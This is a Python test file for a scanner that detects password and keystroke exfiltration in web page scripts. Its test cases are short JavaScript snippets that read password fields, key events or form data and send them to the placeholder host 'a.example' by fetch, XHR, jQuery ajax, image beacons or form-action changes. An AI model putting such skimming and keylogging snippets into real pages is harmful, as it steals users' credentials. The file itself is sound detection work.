"""What a browser answers for what scripts do not declare: elements, events, stores, requests, libraries."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import TAKEN, analysed, channels
from webshellhunt.analysis.browser.channels import Channel


@pytest.mark.parametrize(
    ("found", "is_field"),
    [
        ("document.getElementById('pw')", True),
        ("document.getElementById('user')", False),
        ("$('#f #pw')", True),
        ("$(document.getElementById('pw'))", True),
        ("document.getElementById('pw').focus()", True),
        ("document.getElementById('pw').closest('div')", False),
        ("document.forms.f.pw", True),
        ("document.forms.f.user", False),
    ],
)
def test_elements_that_are_looked_up(found: str, is_field: bool) -> None:
    assert bool(channels(f"fetch('//a.example', {found}.value);")) is is_field


@pytest.mark.parametrize(
    ("read", "is_read"),
    [("val()", True), ("val('x')", False), ("getAttribute('value')", True), ("attr('id')", False)],
)
def test_the_value_of_a_field(read: str, is_read: bool) -> None:
    assert bool(channels(f"fetch('//a.example', $('#pw').{read});")) is is_read


@pytest.mark.parametrize(("selector", "is_read"), [("form", True), ("#f", True), ("#other", False)])
def test_the_values_of_a_form(selector: str, is_read: bool) -> None:
    assert bool(channels(f"fetch('//a.example', $('{selector}').serialize());")) is is_read
    assert bool(channels(f"fetch('//a.example', new FormData($('{selector}')));")) is is_read


@pytest.mark.parametrize(
    ("element", "is_any"), [("document.forms[0].elements[n]", True), ("$('input')", True), ("$('#user')", False)]
)
def test_any_input_of_a_form(element: str, is_any: bool) -> None:
    assert bool(channels(f"fetch('//a.example', {element}.value);")) is is_any


@pytest.mark.parametrize(
    ("value", "is_sent"),
    [
        ("md5(p)", False),
        ("isValid(p)", False),
        ("p.match(/a/)", False),
        ("encode(p)", True),
        ("p.charCodeAt(0)", True),
        ("(p.charCodeAt(0) ^ 3).toString(16)", True),
        ("p.length", False),
        ("p.indexOf('a')", False),
        ("p == 'a'", False),
    ],
)
def test_what_is_left_of_a_value(value: str, is_sent: bool) -> None:
    assert bool(analysed(TAKEN + f"fetch('//a.example', {value});").exfiltrations) is is_sent


def test_the_address_of_the_page_is_no_variable() -> None:
    assert analysed(TAKEN + "location = '//a.example/' + p;").exfiltrations
    assert not analysed(TAKEN + "function f(location) { location = '//a.example/' + p; } f(1);").exfiltrations


def test_the_origin_is_the_text_of_the_expression() -> None:
    (leak,) = analysed("fetch('//a.example', document.getElementById('pw').value);").exfiltrations
    assert leak.trace is not None
    assert leak.trace.origin == "document.getElementById('pw').value"


@pytest.mark.parametrize(
    ("script", "leaks"),
    [
        ('document.onkeypress = function (e) { fetch("//a.example", e.key); };', 1),
        ('document.onclick = function (e) { fetch("//a.example", e.key); };', 0),
        ('document.onkeypress = function (e) { fetch("//a.example", e.type); };', 0),
        ('var f = function (e) { fetch("//a.example", e.key); }; document.onkeypress = f;', 1),
        ('document.addEventListener("keyup", (e) => { fetch("//a.example", e.which); });', 1),
        ('document.getElementById("pw").onblur = function () { fetch("//a.example", this.value); };', 1),
        ('document.getElementById("user").onblur = function () { fetch("//a.example", this.value); };', 0),
    ],
)
def test_keys_are_seen_by_handlers_of_keys_alone(script: str, leaks: int) -> None:
    assert len(analysed(script).exfiltrations) == leaks


@pytest.mark.parametrize(
    ("code", "is_sent"),
    [
        ("o = {}; o.a = p; o.b = 1; fetch('//a.example', o.a);", True),
        ("o = {}; o.a = p; o.b = 1; fetch('//a.example', o.b);", False),
        ("o = {}; o.b = 1; o.a = p; o.c = p; fetch('//a.example', o.c);", True),
        ("o = { a: p, b: 1 }; fetch('//a.example', o.a);", True),
        ("o = { a: p, b: 1 }; fetch('//a.example', o.b);", False),
        ("o = { a: p, b: 1 }; s = extend({}, o); fetch('//a.example', s.b);", False),
        ("o = { a: p, b: 1 }; s = extend({}, o); fetch('//a.example', s.a);", True),
        ("o = { a: p }; fetch('//a.example', JSON.stringify(o));", True),
        ("o = {}; o['a'] = p; fetch('//a.example', o.a);", True),
        ("o = {}; o.a = p; t = ''; for (k in o) t += o[k]; fetch('//a.example', t);", True),
        ("o = {}; o.a = p; o.b = o.a + '1'; fetch('//a.example', o.b);", True),
        ("o = { f: { a: p } }; fetch('//a.example', o.f.a);", True),
        ("this.a = p; fetch('//a.example', this.a);", True),
        ("this.a = p; fetch('//a.example', this.b);", False),
    ],
)
def test_members_of_an_object_are_told_apart(code: str, is_sent: bool) -> None:
    assert bool(channels(TAKEN + code)) is is_sent


@pytest.mark.parametrize(
    "taken",
    [
        "Array.from(f).map(function (e) { return e.value; })",
        "Array.from(f, function (e) { return e.value; })",
        "[...f].map(e => e.value)",
        "[].map.call(f, function (e) { return e.value; })",
        "Array.prototype.slice.call(f).map(function (e) { return e.value; })",
    ],
)
@pytest.mark.parametrize("kind", ["password", "text"])
def test_the_elements_of_a_list(taken: str, kind: str) -> None:
    code = f"var f = document.querySelectorAll('input[type={kind}]'); fetch('//a.example', {{ body: {taken}.join() }});"
    assert bool(channels(code)) is (kind == "password")


def test_a_loop_over_a_list_of_elements() -> None:
    code = "var s = ''; for (var e of document.querySelectorAll('input[type=password]')) s += e.value;"
    assert channels(code + "fetch('//a.example/' + s);")


@pytest.mark.parametrize(
    "taken",
    [
        "_.map(['pw'], function (i) { return document.getElementById(i).value; })",
        "_.map([document.getElementById('pw')], function (e) { return e.value; })",
        "$.map(document.getElementById('pw'), function (e) { return e.value; })",
        "_.map(['user', 'pw'], function (i) { return document.getElementById(i).value; })",
    ],
)
def test_a_library_calls_a_function_with_each_item_of_a_list(taken: str) -> None:
    assert channels(f"fetch('//a.example', {{ body: {taken}.join() }});")
    assert not channels(f"fetch('//a.example', {{ body: {taken.replace('pw', 'user')}.join() }});")
    assert not channels(f"fetch('//a.example', {{ body: {taken.replace('map', 'zip')}.join() }});")


@pytest.mark.parametrize("bound", ["_.bind(s, null)", "$.proxy(s, null)", "_.debounce(s, 100)"])
def test_a_function_that_a_library_binds_is_called(bound: str) -> None:
    assert channels(TAKEN + f"function s(v) {{ fetch('//a.example', v); }} {bound}(p);")
    assert not channels(TAKEN + f"function s(v) {{ fetch('//a.example', v); }} {bound}(1);")


_KEPT = 'document.cookie = "p=" + document.getElementById("pw").value;'


@pytest.mark.parametrize(
    "script",
    [
        'document.getElementById("pw").value = localStorage.getItem("p");',
        'document.getElementById("pw").value = getCookie("p");',
        'var known = getCookie("p"); document.getElementById("pw").value = known;',
        '$("#pw").val(localStorage.p);',
        'document.getElementById("pw").value = document.cookie.split("=")[1];',
    ],
)
def test_a_stored_password_that_is_entered_again_is_remembered(script: str) -> None:
    assert analysed(_KEPT + script).remembers


@pytest.mark.parametrize(
    "script",
    [
        "",
        'document.getElementById("pw").value = "";',
        'document.getElementById("user").value = getCookie("p");',
        'var known = getCookie("p"); document.getElementById("pw").value = other;',
        'if (document.getElementById("pw").value == getCookie("p")) { go(); }',
        'x = $("#pw").val(); y = getCookie("p");',
    ],
)
def test_a_password_that_is_only_stored_is_not_remembered(script: str) -> None:
    assert not analysed(_KEPT + script).remembers


def test_a_page_that_stores_nothing_is_not_asked() -> None:
    assert not analysed('document.getElementById("pw").value = getCookie("p");').remembers


@pytest.mark.parametrize(
    ("script", "shown"),
    [
        ("var x = new XMLHttpRequest(); x.open('POST', '//a.example'); x.send(p);", "a.example"),
        ("x.open('POST', '//a.example'); y.open('POST', '//b.example'); y.send(p);", "b.example"),
        ("x.open('POST', '//a.example'); z.send(p);", "a.example"),
        ("$.ajax({ url: '//a.example', data: p });", "a.example"),
        ("$.ajax('//a.example', { data: p });", "a.example"),
        ("fetch(a ? '/x' : '//a.example', { body: p });", "a.example"),
        ("var f = new FormData(); f.append('p', p); fetch('//a.example', { body: f });", "a.example"),
        ("$.ajaxSetup({ url: '//a.example' }); $.ajax({ data: p });", "a.example"),
        ("$.ajaxSetup({ url: '//a.example', data: p }); $.ajax();", "a.example"),
        ("$.ajaxSetup({ url: '//a.example' }); $.ajax({ url: '//b.example', data: p });", "b.example"),
        ("$.ajaxSetup({ url: '//a.example' }); $.post('//b.example', p);", "b.example"),
        ("$.ajaxSetup({ data: { a: p } }); $.post('//a.example');", "a.example"),
        ("a.innerHTML = '<img src=//a.example/?' + p + '>';", "a.example"),
    ],
)
def test_the_address_of_what_is_sent(script: str, shown: str) -> None:
    (leak,) = analysed(TAKEN + script).exfiltrations
    assert leak.address.shown == shown


@pytest.mark.parametrize(
    ("script", "channel"),
    [
        ("a.setAttribute('src', '//a.example/' + p);", Channel.BEACON),
        ("$('#f').attr('action', '//a.example/');", Channel.FORM),
        ("$('#f').ajaxSubmit({ url: '//a.example/' });", Channel.FORM),
        ("document.write('<img src=//a.example/' + p + '>');", Channel.BEACON),
        ("localStorage.a = p;", Channel.STORAGE),
    ],
)
def test_channels(script: str, channel: Channel) -> None:
    assert [leak.channel for leak in analysed(TAKEN + script).exfiltrations] == [channel]
